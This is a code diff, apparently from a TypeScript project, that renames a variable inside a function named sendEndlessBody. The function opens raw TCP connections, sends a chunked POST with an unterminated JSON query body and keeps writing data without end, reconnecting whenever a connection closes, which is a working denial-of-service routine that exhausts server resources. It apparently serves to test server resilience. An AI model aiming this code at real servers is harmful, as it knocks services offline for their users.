@@ -66,16 +66,16 @@ function sendEndlessBody({ url: server, clientHeaders }: Attacker, path: string)
   let isOver = false;
   const openConnection = () => {
     if (isOver) return;
-    const own = connect(Number(url.port), url.hostname);
-    socket = own;
+    const opened = connect(Number(url.port), url.hostname);
+    socket = opened;
     const writeUntilFull = () => {
-      while (!own.destroyed && own.write(CHUNK));
+      while (!opened.destroyed && opened.write(CHUNK));
     };
-    own.on('drain', writeUntilFull).on('error', () => undefined);
-    own.once('close', () => setTimeout(openConnection, REPEAT_MS));
-    own.resume().once('connect', () => {
-      own.write(`POST ${path} HTTP/1.1\r\nHost: ${url.host}\r\nContent-Type: application/json\r\n`);
-      own.write(`${head.join('')}Transfer-Encoding: chunked\r\n\r\na\r\n{"query":"\r\n`);
+    opened.on('drain', writeUntilFull).on('error', () => undefined);
+    opened.once('close', () => setTimeout(openConnection, REPEAT_MS));
+    opened.resume().once('connect', () => {
+      opened.write(`POST ${path} HTTP/1.1\r\nHost: ${url.host}\r\nContent-Type: application/json\r\n`);
+      opened.write(`${head.join('')}Transfer-Encoding: chunked\r\n\r\na\r\n{"query":"\r\n`);
       writeUntilFull();
     });
   };
